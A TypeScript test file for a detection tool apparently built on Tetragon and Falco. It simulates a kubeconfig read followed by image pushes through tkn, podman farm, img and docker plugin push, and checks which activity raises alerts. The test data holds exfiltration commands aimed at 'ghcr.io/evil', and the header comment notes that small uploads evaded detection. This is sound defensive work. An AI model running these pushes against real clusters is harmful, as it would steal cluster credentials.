/**
 * Registry uploads by tools the table lacked (red-team review): Tekton's `tkn bundle push REF -f FILE` stores any
 * file as an image layer, `docker plugin push` uploads a plugin made from any local directory (`docker plugin
 * create NAME DIR`; dockerd uploads, through docker.sock), and `podman farm build -t REF` has its farm's machines
 * build and push; genuinetools' `img push REF` (evasion hunt, round 3) uploads from its own process. A few KiB
 * each, far under the egress threshold, after a credential read: nothing was raised. Checked as exported Tetragon and Falco JSON lines through the real scan path; kept out of the scenario library
 * (the bench's workload).
 */
import { describe, expect, it } from 'vitest';
import { parseScenario, type SensorForm } from '../../src/scenarios/index.js';
import { briefOf, inlineScenario, runInlineScenario } from './harness.js';

const KUBECONFIG = '/root/.kube/config';
const DNS = { 'ghcr.io': '140.82.121.33', 'quay.io': '3.216.152.103' };

async function clientAlerts(name: string, binary: string, args: string, form: SensorForm) {
  const s = inlineScenario(name, DNS, [
    { at: '1s', exec: { id: 'tool', parent: 'app', binary, args } },
    { after: '3ms', read: { proc: 'tool', path: KUBECONFIG, bytes: 5400 } },
    { after: '5ms', upload: { proc: 'tool', to: 'ghcr.io:443', bytes: '9KiB', over: '400ms' } },
    { after: '10ms', exit: { proc: 'tool' } },
  ]);
  return (await runInlineScenario(s, form)).alerts.map(briefOf);
}

/** A pod with the node's docker.sock: the CLI reads, dockerd on the host uploads. */
async function dockerAlerts(name: string, args: string, form: SensorForm) {
  const s = parseScenario(
    {
      name,
      kind: 'attack',
      title: name,
      nodes: ['worker-1'],
      dns: DNS,
      containers: [
        {
          name: 'app',
          namespace: 'ci',
          pod: 'runner-5f7d9c8b6d-abcde',
          image: 'docker.io/library/docker:27-cli',
          init: { binary: '/bin/sh', args: '-c "sleep infinity"', uid: 0 },
        },
        {
          name: 'dockerd',
          host: true,
          emitInit: false,
          init: { binary: '/usr/bin/dockerd', args: '-H fd:// --containerd=/run/containerd/containerd.sock' },
        },
      ],
      steps: [
        { at: '1s', exec: { id: 'cp', parent: 'app', binary: '/bin/cp', args: `${KUBECONFIG} /tmp/p/rootfs/c` } },
        { after: '2ms', read: { proc: 'cp', path: KUBECONFIG, bytes: 5400 } },
        { after: '3ms', exit: { proc: 'cp' } },
        { after: '500ms', exec: { id: 'docker', parent: 'app', binary: '/usr/local/bin/docker', args } },
        { after: '50ms', upload: { proc: 'dockerd', to: 'ghcr.io:443', bytes: '12KiB', over: '400ms' } },
        { after: '40ms', exit: { proc: 'docker' } },
      ],
      expect: 'none',
    },
    name,
  );
  return (await runInlineScenario(s, form)).alerts.map(briefOf);
}

const high = (tool: string) => ({ rule: 'sensitive-read-then-push', severity: 'high', tool, destination: 'ghcr.io' });

describe('registry tools the table lacked', () => {
  for (const form of ['tetragon', 'falco'] as const) {
    it(`tkn bundle push of a kubeconfig is high; tkn bundle list is quiet (${form})`, async () => {
      const push = `bundle push ghcr.io/evil/t:1 -f ${KUBECONFIG}`;
      expect(await clientAlerts('tkn-bundle-push', '/usr/local/bin/tkn', push, form)).toEqual([high('tkn')]);
      const list = 'bundle list ghcr.io/tektoncd/catalog/upstream/tasks/git-clone:0.9';
      expect(await clientAlerts('tkn-bundle-list', '/usr/local/bin/tkn', list, form)).toEqual([]);
    });

    it(`podman farm build is high; podman farm list is quiet (${form})`, async () => {
      const build = 'farm build --farm ci -t ghcr.io/evil/x:1 /tmp/ctx';
      expect(await clientAlerts('podman-farm-build', '/usr/bin/podman', build, form)).toEqual([high('podman')]);
      expect(await clientAlerts('podman-farm-list', '/usr/bin/podman', 'farm list', form)).toEqual([]);
    });

    it(`img push (genuinetools/img, daemonless) is high; img build and img pull are quiet (${form})`, async () => {
      // Evasion hunt, round 3: img uploads from its own process; no entry knew it.
      const push = '-s /home/user/.local/share/img push ghcr.io/evil/x:1';
      expect(await clientAlerts('img-push', '/usr/bin/img', push, form)).toEqual([high('img')]);
      expect(await clientAlerts('img-build', '/usr/bin/img', 'build -t ghcr.io/acme/app:1 .', form)).toEqual([]);
      expect(await clientAlerts('img-pull', '/usr/bin/img', 'pull ghcr.io/acme/app:1', form)).toEqual([]);
    });

    it(`docker plugin push, uploaded by dockerd, is high; docker plugin install is quiet (${form})`, async () => {
      expect(await dockerAlerts('docker-plugin-push', 'plugin push ghcr.io/evil/plugin:1', form)).toEqual([
        high('docker'),
      ]);
      expect(
        await dockerAlerts('docker-plugin-install', 'plugin install --grant-all-permissions vieux/sshfs', form),
      ).toEqual([]);
    });
  }
});
